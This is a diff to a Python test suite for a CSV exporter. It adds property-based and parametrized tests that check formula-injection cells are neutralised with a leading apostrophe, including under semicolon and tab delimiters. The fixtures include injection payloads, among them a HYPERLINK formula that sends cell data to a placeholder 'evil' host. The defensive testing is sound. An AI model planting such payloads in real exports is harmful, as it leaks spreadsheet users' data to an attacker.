@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import tracemalloc
 from contextlib import suppress
@@ -35,6 +36,33 @@ def test_what_is_written_is_read_back_and_no_cell_begins_a_formula(rows):
     found = [*csv_table(data, "a.csv", lambda rows: 0).rows]
     assert [row for row in found if row[1]] == [row for row in wanted if row[1]]
     assert not any(disarmed(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+@given(st.lists(st.lists(CELLS, min_size=1), min_size=1), st.sampled_from(";\t"))
+def test_no_cell_begins_a_formula_where_something_else_stands_between_cells(rows, between):
+    data = io.BytesIO()
+    write_csv(data, rows, marked=True)
+    read_so = csv.reader(io.StringIO(data.getvalue().decode("utf-8-sig"), newline=""), delimiter=between)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in read_so for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("Ads;=1+1", "Ads;'=1+1"),
+        ('Wages;=HYPERLINK("http://evil/"&A1)', 'Wages;\'=HYPERLINK("http://evil/"&A1)'),
+        ("a\n=1", "a\n'=1"),
+        ("a\t'=1", "a\t''=1"),
+        (";;@", ";;'@"),
+        ("=1;=2", "'=1;'=2"),
+        ("\n=1", "'\n'=1"),
+        ('a;"=1"', 'a;\'"=1"'),
+        ("well-paid; by the hour", "well-paid; by the hour"),
+    ],
+)
+def test_what_would_be_a_formula_behind_another_mark_is_written_behind_an_apostrophe(cell, written):
+    assert disarmed(cell) == written
+    assert armed(written) == cell
 
 
 def test_a_number_below_nothing_is_no_formula():
@@ -96,7 +124,7 @@ def test_each_row_over_many_lines_is_counted_by_itself():
 
 
 def test_more_than_the_largest_file_is_one_sentence(monkeypatch):
-    monkeypatch.setattr(tables_csv, "LARGEST", 10)
+    monkeypatch.setattr(tables_csv, "LARGEST_TABLE", 10)
     assert "is larger than" in refused(b"a,b\n" * 3)
 
 
